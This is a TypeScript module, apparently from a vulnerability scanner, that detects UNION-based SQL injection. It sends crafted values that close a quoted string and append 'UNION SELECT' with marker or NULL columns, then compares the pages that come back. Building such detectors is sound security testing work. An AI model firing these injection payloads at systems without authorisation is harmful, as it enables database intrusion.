import { FIXED_NUMBER, newMarker } from '@palisade/scan-engine';

export interface UnionForm {
  /** For evidence, with `v` for the usual value. */
  shows: string;
  /** `quote` ends the text of the statement; without it the rest is a text like any other. The statement closes the last text. */
  value: (usual: string, marker: string, quote: "'" | '') => string;
}

/** Sends a value; the page without what it repeats of the value, or null without a page. */
export type Read = (value: string) => Promise<string | null>;

const MOST_COLUMNS = 8;
const MOST_UNANSWERED = 2;

const unionOf = (columns: number, isNumberFirst: boolean): UnionForm => ({
  shows: `v' UNION SELECT ${columns} values`,
  value: (usual, marker, quote) => {
    const texts = Array.from({ length: columns }, (_one, at) =>
      isNumberFirst && at === 0 ? String(FIXED_NUMBER) : `'${marker}'`,
    );
    return `${usual}${quote} UNION SELECT ${texts.join(',')}`.slice(0, -1);
  },
});

/** All columns as texts, then the first one as a number: databases that check types refuse the others. */
const FORMS: readonly UnionForm[] = Array.from({ length: MOST_COLUMNS }, (_one, at) => at + 1).flatMap(
  (columns) => [unionOf(columns, false), ...(columns > 1 ? [unionOf(columns, true)] : [])],
);

/** Whether a second SELECT adds a row of nothing but our marker to the page: twice, and not where no quote ends the text before it. Reads no data. */
export async function tryUnion(usual: string, read: Read): Promise<UnionForm | null> {
  const shows = async (form: UnionForm, quote: "'" | ''): Promise<boolean | null> => {
    const marker = newMarker();
    const page = await read(form.value(usual, marker, quote));
    return page === null ? null : page.includes(marker);
  };
  let unanswered = 0;
  for (const form of FORMS) {
    const isShown = await shows(form, "'");
    if (isShown === null) unanswered += 1;
    if (unanswered >= MOST_UNANSWERED) return null;
    const isProven =
      isShown === true && (await shows(form, '')) === false && (await shows(form, "'")) === true;
    if (isProven) return form;
  }
  return null;
}

/** Which page a value shows. */
export type Look = (value: string) => Promise<'usual' | 'other' | 'nothing'>;

const MOST_HIDDEN_COLUMNS = 6;

const rowOf = (usual: string, columns: number, words = 'UNION SELECT'): string =>
  `${usual} ${words} ${Array.from({ length: columns }, () => 'NULL').join(',')}`;

/**
 * Whether a second SELECT adds a row to a page that shows only whether there is one, and hides errors: for a number that no row has. A filter of words
 * does not count columns, so one column more has to show the usual page. Reads no data.
 * @returns a value that shows the usual page, and one that adds the row
 */
export async function tryHiddenUnion(
  usual: string,
  look: Look,
): Promise<[same: string, other: string] | null> {
  for (let columns = 1; columns <= MOST_HIDDEN_COLUMNS; columns += 1) {
    const seen = await look(rowOf(usual, columns));
    if (seen === 'nothing') return null;
    if (seen === 'usual') continue;
    const [same, other] = [rowOf(usual, columns, 'UNOIN SELECT'), rowOf(usual, columns)];
    const rounds: readonly [value: string, shows: 'usual' | 'other'][] = [
      [same, 'usual'],
      [rowOf(usual, columns + 1), 'usual'],
      [rowOf(usual, columns, 'UNION ALL SELECT'), 'other'],
      [rowOf(usual, columns + 2, 'UNION ALL SELECT'), 'usual'],
      [usual, 'usual'],
    ];
    for (const [value, shows] of rounds) if ((await look(value)) !== shows) return null;
    return [same, other];
  }
  return null;
}
